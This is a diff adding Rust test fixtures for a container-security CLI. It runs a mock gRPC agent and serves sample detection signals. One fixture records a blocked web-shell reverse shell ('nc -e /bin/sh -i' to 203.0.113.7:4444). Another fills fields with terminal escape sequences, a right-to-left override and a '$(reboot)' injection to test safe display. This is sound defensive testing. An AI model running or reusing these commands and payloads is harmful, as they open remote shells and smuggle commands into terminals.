@@ -1,0 +1,285 @@
+//! The agent, its data, and running the program.
+
+use std::{
+    path::{Path, PathBuf},
+    pin::Pin,
+    process::{Command, Output},
+    sync::{Arc, Mutex},
+    thread,
+};
+
+use portcullis_proto::v1::{
+    container_service_server::{ContainerService, ContainerServiceServer},
+    node_service_server::{NodeService, NodeServiceServer},
+    signal_service_server::{SignalService, SignalServiceServer},
+    *,
+};
+use tempfile::TempDir;
+use tokio::{net::UnixListener, sync::oneshot};
+use tokio_stream::{Stream, StreamExt, wrappers::UnixListenerStream};
+use tonic::{Request, Response, Status, transport::Server};
+
+/// What a hostile container would choose for its names: a screen cleared, a line forged, a word turned around.
+pub const HOSTILE: &str = "x\x1b[2J\nforged  line\u{202e}gpj\u{9b}31m";
+
+/// The program, pointed at this socket.
+pub fn portcullis(socket: &Path) -> Command {
+    let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
+    command.env_remove("NO_COLOR").env("PORTCULLIS_SOCKET", socket);
+    command
+}
+
+pub fn stdout(output: &Output) -> String {
+    String::from_utf8(output.stdout.clone()).unwrap()
+}
+
+pub fn stderr(output: &Output) -> String {
+    String::from_utf8(output.stderr.clone()).unwrap()
+}
+
+/// A directory with room for a socket.
+pub struct Node {
+    pub directory: TempDir,
+}
+
+impl Node {
+    pub fn new() -> Self {
+        Self { directory: tempfile::tempdir().unwrap() }
+    }
+
+    pub fn socket(&self) -> PathBuf {
+        self.directory.path().join("portcullis.sock")
+    }
+
+    /// Runs the program to its end.
+    pub fn run(&self, arguments: &[&str]) -> Output {
+        portcullis(&self.socket()).args(arguments).output().unwrap()
+    }
+
+    /// Runs the program and reads its JSON.
+    pub fn json(&self, arguments: &[&str]) -> serde_json::Value {
+        let output = self.run(&[arguments, &["-o", "json"]].concat());
+        assert!(output.status.success(), "{}", stderr(&output));
+        serde_json::from_slice(&output.stdout).unwrap()
+    }
+}
+
+/// What the agent knows, and what it was asked.
+#[derive(Clone, Default)]
+pub struct Data {
+    pub signals: Vec<Signal>,
+    pub containers: Vec<Container>,
+    pub status: GetStatusResponse,
+    pub lists: Arc<Mutex<Vec<ListSignalsRequest>>>,
+    pub watches: Arc<Mutex<Vec<WatchSignalsRequest>>>,
+    /// End a watch's stream after its signals instead of keeping it open.
+    pub watch_ends: bool,
+}
+
+/// A running agent; dropping it cuts every connection, as a crash would.
+pub struct Agent {
+    stop: Option<oneshot::Sender<()>>,
+    thread: Option<thread::JoinHandle<()>>,
+}
+
+impl Agent {
+    pub fn start(node: &Node, data: Data) -> Self {
+        let socket = node.socket();
+        let _ = std::fs::remove_file(&socket);
+        let (stop, stopped) = oneshot::channel();
+        let (ready, is_ready) = std::sync::mpsc::channel();
+        let thread = thread::spawn(move || {
+            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+            runtime.block_on(async move {
+                let listener = UnixListener::bind(socket).unwrap();
+                ready.send(()).unwrap();
+                let server = Server::builder()
+                    .add_service(SignalServiceServer::new(data.clone()))
+                    .add_service(ContainerServiceServer::new(data.clone()))
+                    .add_service(NodeServiceServer::new(data))
+                    .serve_with_incoming(UnixListenerStream::new(listener));
+                tokio::select! {
+                    result = server => result.unwrap(),
+                    _ = stopped => {}
+                }
+            });
+        });
+        is_ready.recv().unwrap();
+        Self { stop: Some(stop), thread: Some(thread) }
+    }
+}
+
+impl Drop for Agent {
+    fn drop(&mut self) {
+        drop(self.stop.take());
+        self.thread.take().unwrap().join().unwrap();
+    }
+}
+
+#[tonic::async_trait]
+impl SignalService for Data {
+    /// Page tokens are offsets.
+    async fn list_signals(
+        &self,
+        request: Request<ListSignalsRequest>,
+    ) -> Result<Response<ListSignalsResponse>, Status> {
+        let request = request.into_inner();
+        self.lists.lock().unwrap().push(request.clone());
+        if request.filter.as_ref().is_some_and(|filter| filter.tool == "refuse") {
+            return Err(Status::invalid_argument(format!("no tool {HOSTILE}")));
+        }
+        let start: usize = request.page_token.parse().unwrap_or(0);
+        let end = (start + request.page_size as usize).min(self.signals.len());
+        let next_page_token = if end < self.signals.len() { end.to_string() } else { String::new() };
+        Ok(Response::new(ListSignalsResponse { signals: self.signals[start..end].to_vec(), next_page_token }))
+    }
+
+    async fn get_signal(&self, request: Request<GetSignalRequest>) -> Result<Response<GetSignalResponse>, Status> {
+        let id = request.into_inner().id;
+        let signal = self.signals.iter().find(|signal| signal.id == id).cloned();
+        let signal = signal.ok_or_else(|| Status::not_found(format!("signal {id}")))?;
+        Ok(Response::new(GetSignalResponse { signal: Some(signal) }))
+    }
+
+    type WatchSignalsStream = Pin<Box<dyn Stream<Item = Result<WatchSignalsResponse, Status>> + Send>>;
+
+    async fn watch_signals(
+        &self,
+        request: Request<WatchSignalsRequest>,
+    ) -> Result<Response<Self::WatchSignalsStream>, Status> {
+        let request = request.into_inner();
+        self.watches.lock().unwrap().push(request.clone());
+        let after = request.after_id.unwrap_or(u64::MAX);
+        let signals: Vec<_> = self.signals.iter().filter(|signal| signal.id > after).cloned().collect();
+        let stored = tokio_stream::iter(signals).map(|signal| Ok(WatchSignalsResponse { signal: Some(signal) }));
+        if self.watch_ends {
+            return Ok(Response::new(Box::pin(stored)));
+        }
+        Ok(Response::new(Box::pin(stored.chain(tokio_stream::pending()))))
+    }
+}
+
+#[tonic::async_trait]
+impl ContainerService for Data {
+    async fn list_containers(
+        &self,
+        request: Request<ListContainersRequest>,
+    ) -> Result<Response<ListContainersResponse>, Status> {
+        let ended = request.into_inner().include_ended;
+        let containers = self.containers.iter().filter(|container| ended || container.ended.is_none());
+        Ok(Response::new(ListContainersResponse { containers: containers.cloned().collect() }))
+    }
+}
+
+#[tonic::async_trait]
+impl NodeService for Data {
+    async fn get_status(&self, _: Request<GetStatusRequest>) -> Result<Response<GetStatusResponse>, Status> {
+        Ok(Response::new(self.status.clone()))
+    }
+}
+
+fn time(seconds: i64) -> prost_types::Timestamp {
+    prost_types::Timestamp { seconds: 1_700_000_000 + seconds, nanos: 123_456_789 }
+}
+
+pub const CONTAINER_ID: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
+
+pub fn container() -> Container {
+    Container {
+        id: CONTAINER_ID.into(),
+        containerd_namespace: "k8s.io".into(),
+        image: "docker.io/library/web:1".into(),
+        cgroup_id: 4711,
+        pod: Some(Pod {
+            name: "web-0".into(),
+            namespace: "shop".into(),
+            sandbox_id: "feed".into(),
+            container_name: "web".into(),
+        }),
+        mode: Mode::Enforce.into(),
+        policy: "default".into(),
+        guarded: true,
+        created: Some(time(-60)),
+        counters: Some(Counters { matched: 3, blocked: 1, killed: 1, lost: 0 }),
+        mode_reason: "annotation".into(),
+        backend: Backend::Lsm.into(),
+        ..Container::default()
+    }
+}
+
+/// A web shell runs `nc -e` and is stopped.
+pub fn signal(id: u64) -> Signal {
+    let ancestor = |pid, exe: &str, argv: &[&str]| Ancestor {
+        pid,
+        container_pid: pid - 1000,
+        uid: 33,
+        exe: exe.into(),
+        argv: argv.iter().map(|&word| word.into()).collect(),
+        start_time: Some(time(-10)),
+        ..Ancestor::default()
+    };
+    Signal {
+        id,
+        rule: "net_util_in_container".into(),
+        severity: Severity::High.into(),
+        verdict: Verdict::Blocked.into(),
+        time: Some(time(0)),
+        tool: Some(Tool { id: "nc".into(), category: "netcat".into(), techniques: vec!["T1095".into()] }),
+        identified_by: vec![Identification::ResolvedName.into(), Identification::InvokedName.into()],
+        container: Some(container()),
+        process: Some(Process {
+            pid: 1042,
+            tid: 1042,
+            container_pid: 42,
+            uid: 33,
+            gid: 33,
+            invoked_name: "nc".into(),
+            filename: "/tmp/nc".into(),
+            exe: "/usr/bin/nc.openbsd".into(),
+            argv: ["nc", "-e", "/bin/sh -i", "203.0.113.7", "4444"].map(Into::into).to_vec(),
+            argc: 5,
+            argv_unconfirmed: true,
+            cwd: "/tmp".into(),
+            start_time: Some(time(-1)),
+            ..Process::default()
+        }),
+        lineage: vec![
+            ancestor(1042, "/bin/dash", &["sh", "-c", "nc -e '/bin/sh -i' 203.0.113.7 4444"]),
+            ancestor(1020, "/usr/bin/php", &[]),
+            ancestor(1001, "/usr/sbin/apache2", &["apache2", "-DFOREGROUND"]),
+        ],
+        origin: Origin::Container.into(),
+        policy: "default".into(),
+        backend: Backend::Lsm.into(),
+        message: "nc was executed and blocked".into(),
+        ..Signal::default()
+    }
+}
+
+/// Hostile wherever a container can choose the text.
+pub fn hostile(id: u64) -> Signal {
+    let mut signal = signal(id);
+    signal.message = HOSTILE.into();
+    let container = signal.container.as_mut().unwrap();
+    container.image = HOSTILE.into();
+    container.pod = None;
+    let process = signal.process.as_mut().unwrap();
+    for text in [&mut process.invoked_name, &mut process.filename, &mut process.exe, &mut process.cwd, &mut process.tty]
+    {
+        *text = HOSTILE.into();
+    }
+    process.argv = vec![HOSTILE.into(), "$(reboot)".into()];
+    for ancestor in &mut signal.lineage {
+        ancestor.exe = HOSTILE.into();
+        ancestor.argv = vec![HOSTILE.into()];
+    }
+    signal
+}
+
+/// Nothing in it may do more than show itself.
+pub fn assert_harmless(text: &str) {
+    for c in text.chars() {
+        assert!(c == '\n' || !(c.is_control() || c == '\u{202e}'), "{c:?} in {text:?}");
+    }
+    assert!(!text.lines().any(|line| line.starts_with("forged")), "{text}");
+}
